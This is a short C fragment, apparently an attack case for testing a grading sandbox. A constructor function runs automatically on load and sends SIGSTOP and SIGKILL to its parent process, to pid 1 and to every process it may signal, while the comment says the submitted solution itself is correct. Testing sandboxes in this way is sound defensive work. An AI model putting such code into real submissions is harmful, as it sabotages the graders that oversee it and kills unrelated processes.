/* kill_parent: SIGKILL and SIGSTOP to the parent, to pid 1 and to every process it may
   signal. The base is correct: full marks, grading unharmed. */
__attribute__((constructor)) static void attack_kill_parent(void) {
    pid_t parent = getppid();
    fprintf(stderr, "attack: SIGSTOP parent %d = %d\n", (int)parent, kill(parent, SIGSTOP));
    fprintf(stderr, "attack: SIGKILL parent = %d\n", kill(parent, SIGKILL));
    fprintf(stderr, "attack: SIGKILL 1 = %d\n", kill(1, SIGKILL));
    fprintf(stderr, "attack: SIGKILL -1 = %d\n", kill(-1, SIGKILL));
}
